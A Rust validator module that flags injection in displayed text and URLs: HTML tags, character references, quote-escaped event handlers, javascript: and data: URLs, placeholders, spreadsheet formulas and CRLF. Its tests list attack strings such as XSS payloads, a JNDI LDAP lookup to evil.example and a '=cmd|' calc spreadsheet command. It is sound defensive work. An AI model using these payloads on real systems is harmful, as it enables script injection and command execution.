//! Whether a text for people is more than text to a page that forgets to escape it: a tag, a character written as a reference, an end of an
//! attribute with a handler behind it, a URL that runs.

use crate::percent::percent_decoded;

/// Characters by their names in HTML that begin or end something there, or hide in it. Not `amp`: `R&amp;D` was escaped once too often.
const REFERENCES: [&str; 23] = [
    "lt",
    "gt",
    "quot",
    "apos",
    "grave",
    "colon",
    "lpar",
    "rpar",
    "sol",
    "bsol",
    "equals",
    "excl",
    "num",
    "lbrace",
    "lcub",
    "tab",
    "newline",
    "shy",
    "zerowidthspace",
    "zwj",
    "zwnj",
    "lrm",
    "rlm",
];

/// The most letters of such a name.
const LONGEST_REFERENCE: usize = 14;

/// Tags that run, fetch or show something of whoever writes them.
const TAGS: [&str; 20] = [
    "a", "audio", "base", "body", "button", "embed", "form", "html", "iframe", "img", "input", "link", "math", "meta",
    "object", "script", "style", "svg", "table", "video",
];

/// Attributes, beside all that begin with `on`, by which a page runs or fetches something.
const ATTRIBUTES: [&str; 6] = ["style", "src", "srcdoc", "href", "formaction", "srcset"];

/// Schemes that run what stands behind them.
const RUNNING: [&str; 3] = ["javascript:", "vbscript:", "livescript:"];

/// Documents in a URL that run as a page does.
const DOCUMENTS: [&str; 5] =
    ["data:text/html", "data:text/javascript", "data:text/xml", "data:application/", "data:image/svg"];

/// What other programs put something else in the place of: Keycloak's consent page `${client_account}`, loggers `${jndi:…}`, templates `{{7*7}}`,
/// `{%print 7%}` and `%{7*7}`.
const PLACEHOLDERS: [&str; 5] = ["${", "#{", "{{", "{%", "%{"];

/// What is said of a text that holds one.
pub(super) const PLACEHOLDER: &str = "holds a placeholder (${…}, #{…}, %{…}, {{…}}, {%…%})";

/// Whether a text that is shown under the server's name would be replaced by another.
pub(super) fn holds_a_placeholder(text: &str) -> bool {
    PLACEHOLDERS.iter().any(|begin| text.contains(begin))
}

/// What of the text a page would not show as text: the end of a sentence that begins with the text.
pub(super) fn problem(text: &str) -> Option<&'static str> {
    if holds_a_handler(text) {
        return Some("holds markup (an attribute behind a quote)");
    }
    // `${version}` is a slip of whoever built the client.
    if text.split("${").skip(1).any(|inside| inside.split('}').next().is_some_and(|inside| inside.contains(':'))) {
        return Some("holds a look-up (${…:…})");
    }
    if begins_a_formula(text) {
        return Some("begins as a formula of a spreadsheet");
    }
    if text.contains("](") && ["](http", "](//"].iter().any(|link| text.to_ascii_lowercase().contains(link)) {
        return Some("holds markup (a link of Markdown)");
    }
    for (at, character) in text.char_indices() {
        let (before, rest) = (text[..at].chars().next_back(), &text[at + character.len_utf8()..]);
        let found = match character {
            '<' if begins_a_tag(rest) => Some("holds markup (<)"),
            '%' => encoded(rest),
            '&' => reference(rest),
            _ if before.is_none_or(|before| !before.is_ascii_alphanumeric()) && runs(&text[at..]) => {
                Some("holds a URL that runs code")
            }
            _ => None,
        };
        if found.is_some() {
            return found;
        }
    }
    None
}

/// What of a page's URL would end the attribute it stands in, or begin a tag.
pub(super) fn problem_of_url(url: &str) -> Option<&'static str> {
    if !url.contains(['"', '\'', '`', '%']) {
        return None;
    }
    // As a page shows it that decodes it, white space and slashes too; as it is written for one that does not.
    let shown = url.replace('+', " ");
    let shown = String::from_utf8_lossy(&percent_decoded(shown.as_bytes())).into_owned();
    if holds_a_handler(url) || holds_a_handler(&shown) {
        return Some("holds markup (an attribute behind a quote)");
    }
    let small = url.to_ascii_lowercase();
    small.split("%3c").skip(1).any(begins_with_a_tags_name).then_some("holds markup (%3C)")
}

/// What follows `%`, when it is a line break, or begins a tag.
fn encoded(rest: &str) -> Option<&'static str> {
    let code = rest.get(..2)?.to_ascii_lowercase();
    match code.as_str() {
        "3c" if begins_a_tag(&rest[2..]) => Some("holds markup (%3C)"),
        "0d" if rest.get(2..5).is_some_and(|next| next.eq_ignore_ascii_case("%0a")) => {
            Some("holds a line break (%0D%0A)")
        }
        _ => None,
    }
}

/// Whether a spreadsheet that opens a list of names would compute it: `=HYPERLINK(…)`, `+cmd|…`.
fn begins_a_formula(text: &str) -> bool {
    let calls = text.strip_prefix('=').is_some_and(|rest| rest.starts_with(|c: char| c.is_ascii_alphanumeric()))
        && text.contains(['(', '!', '|']);
    let program = text.split_once('|').map(|(program, _)| program);
    calls || (text.starts_with(['=', '+', '-', '@']) && program.is_some_and(|it| !it.contains(char::is_whitespace)))
}

fn begins_a_tag(rest: &str) -> bool {
    rest.starts_with(|next: char| next.is_ascii_alphabetic() || "/!?%".contains(next))
}

/// What follows `&`, when it is a character by its number or its name: a page shows another name. `&amp;lt;` is one that was escaped.
fn reference(rest: &str) -> Option<&'static str> {
    let mut rest = rest;
    while let Some(once) = rest.strip_prefix("amp;") {
        rest = once;
    }
    if let Some(number) = rest.strip_prefix('#') {
        let number = number.strip_prefix(['x', 'X']).unwrap_or(number);
        return number.starts_with(|digit: char| digit.is_ascii_hexdigit()).then_some("holds markup (&#)");
    }
    // Of old the semicolon may be missing; `&ltd` is a company's, and `LG&LTE` are two names.
    let behind = rest.strip_prefix("lt").or_else(|| rest.strip_prefix("LT"));
    if behind.is_some_and(|behind| behind.starts_with(['/', '!', '?', '%']) || begins_with_a_tags_name(behind)) {
        return Some("holds markup (&lt)");
    }
    let name = rest.get(..rest.bytes().take(LONGEST_REFERENCE + 1).position(|byte| byte == b';')?)?;
    REFERENCES.iter().any(|known| known.eq_ignore_ascii_case(name)).then_some("holds markup (&…;)")
}

fn begins_with_a_tags_name(text: &str) -> bool {
    let word = &text[..text.find(|c: char| !c.is_ascii_alphanumeric()).unwrap_or(text.len())];
    TAGS.iter().any(|tag| tag.eq_ignore_ascii_case(word))
}

/// Whether an attribute that runs something stands behind a quote, at once or behind other attributes: `' onload=x`.
fn holds_a_handler(text: &str) -> bool {
    let is_quote = |character: char| matches!(character, '"' | '\'' | '`');
    let parts = |character: char| character.is_whitespace() || character == '/';
    let mut quotes = text.match_indices(is_quote).peekable();
    // Whether a quote had something behind it that sets a word apart.
    let mut is_apart = false;
    text.match_indices('=').any(|(at, _)| {
        while let Some((quote, _)) = quotes.next_if(|(quote, _)| *quote < at) {
            is_apart |= text[quote + 1..at].starts_with(parts);
        }
        let before = text[..at].trim_end();
        let name = &before[before.trim_end_matches(|c: char| c.is_ascii_alphabetic()).len()..];
        let in_front = before[..before.len() - name.len()].chars().next_back();
        // A word of its own: at a quote, or behind a space when a quote has one behind it, too.
        let stands_alone = in_front.is_some_and(|c| is_quote(c) || is_apart && parts(c));
        let name = name.to_ascii_lowercase();
        let is_handler = name.len() > 4 && name.starts_with("on");
        stands_alone && (is_handler || ATTRIBUTES.contains(&name.as_str()))
    })
}

/// Whether a URL begins here that runs. `JavaScript: The Good Parts` is a title.
fn runs(text: &str) -> bool {
    let begins = |start: &str| text.get(..start.len()).is_some_and(|begin| begin.eq_ignore_ascii_case(start));
    if DOCUMENTS.into_iter().any(begins) {
        return true;
    }
    let Some(code) = RUNNING.into_iter().find(|scheme| begins(scheme)).map(|scheme| &text[scheme.len()..]) else {
        return false;
    };
    let is_called = |(at, _): (usize, &str)| code[..at].ends_with(|c: char| c.is_ascii_alphanumeric());
    code.starts_with(|next: char| !next.is_whitespace()) || code.match_indices(['(', '`']).any(is_called)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_people_write_is_no_markup() {
        for text in [
            "I <3 Orders",
            "a < b > c",
            "a<=b",
            "R&D &# Co",
            "R&D",
            "AT&T",
            "AT&amp;T",
            "R&amp;D",
            "Tom &amp; Jerry; Co",
            "Q&A; FAQ",
            "Johnson &lt Partners",
            "Tom's \"best\" app",
            "Rock 'n' Roll once = twice",
            "\"Orders\" on=1",
            "Tom's online=shop",
            "The \"only\" one",
            "\"Acme\" https://acme.example/?src=x",
            "JavaScript: The Good Parts",
            "JavaScript SDK (beta)",
            "Learn JavaScript: closures (2nd ed.)",
            "typescript:javascript",
            "data: protection office",
            "Data:Base",
            "metadata:text/html",
            "50%3C",
            "CN=\"Acme, Inc.\",O=x",
            "Smith &ltd",
            "SMITH &LTD.",
            "LG&LTE",
            "Silva &LTDA",
            "+1 555 0100 | Support",
            "@alice:matrix.org | Support",
            "@acme/client (beta)",
            "C# {beta}",
            "=^.^= Cat!",
            "${project.version}",
            "0%0APR",
            "= Orders",
            "100% organic",
            "[beta] Orders (https://orders.example)",
        ] {
            assert_eq!(problem(text), None, "{text}");
        }
    }

    #[test]
    fn a_text_of_quotes_alone_is_looked_through_once() {
        let text = "'".repeat(200_000) + &"=".repeat(200_000);
        assert_eq!(problem(&text), None);
    }

    #[test]
    fn what_a_page_would_not_show_as_text_is_found() {
        for text in [
            "<script>alert(1)</script>",
            "a</b>",
            "a<!--",
            "<?xml",
            "%3Cscript%3E",
            "x%3c/b",
            "Cl&#97;ude",
            "&#X43;laude",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&LT;b",
            "&amp;lt;b",
            "&amp;amp;#60;b",
            "&quot;onload=x",
            "a&apos;b",
            "java&Tab;script",
            "Ord&shy;ers",
            "\" onmouseover=\"alert(1)",
            "' onmouseover='x",
            "\" onfocus=x autofocus x=\"",
            "x\"onload=alert(1)",
            "Orders\" autofocus onfocus = alert(1)",
            "Orders\"/onload=x",
            "` onerror=x",
            "\" style=\"display:none",
            "javascript:alert(1)",
            "JavaScript: alert(1)",
            "[x](javascript:alert(1))",
            "Team javascript:alert`1`",
            "vbscript:msgbox",
            "data:text/html,x",
            "x (DATA:text/html;base64,PHNjcmlwdD4=)",
            "&ltscript>",
            "<%= x %>",
            "[x](HTTP://evil.example)",
            "[x](//evil.example)",
            "a&rlm;b",
            "${jndi:ldap://evil.example/x}",
            "=HYPERLINK(\"https://evil.example\")",
            "=cmd|' /C calc'!A0",
            "+cmd|x",
            "Orders%0d%0aX: y",
            "![x](https://evil.example/x.png)",
            "'onerror=alert(1)//",
        ] {
            assert!(problem(text).is_some(), "{text}");
        }
    }

    #[test]
    fn an_attribute_behind_a_quote_in_a_url_is_found_in_any_spelling() {
        for rest in [
            "%22onload=alert(1)",
            "%22%20onload=alert(1)",
            "?a=%22+onload=x",
            "?a=%22%2Fonload=x",
            "?a=%22%C2%A0onload=x",
            "?a=%22%20style=x",
            "?a=%27%20onload%3Dx",
            "?a=%22onload%3Dx",
            "?a=%60%20onload=x",
            "?a=%22%20%6Fnload=x",
            "?a='+onload=x",
            "?a=x%22%20b%20ONLOAD%20=x",
        ] {
            assert!(problem_of_url(&format!("https://app.example.com/{rest}")).is_some(), "{rest}");
        }
        for rest in [
            "O%27Reilly/cb?src=x",
            "?title=%22Orders%22&src=x",
            "?title=%22Orders%22&style=dark&onboarding=1",
            "?title=%22Orders%22+on=1",
            "?q=it%27s+a+style",
            "?q=a%20b&href=/home",
            "?filter=name%20eq%20%27a%27&online=1",
            "?j=%7B%22onload%22:1%7D",
            "?a=%2B%22x%22&once=1",
        ] {
            assert_eq!(problem_of_url(&format!("https://app.example.com/{rest}")), None, "{rest}");
        }
    }
}
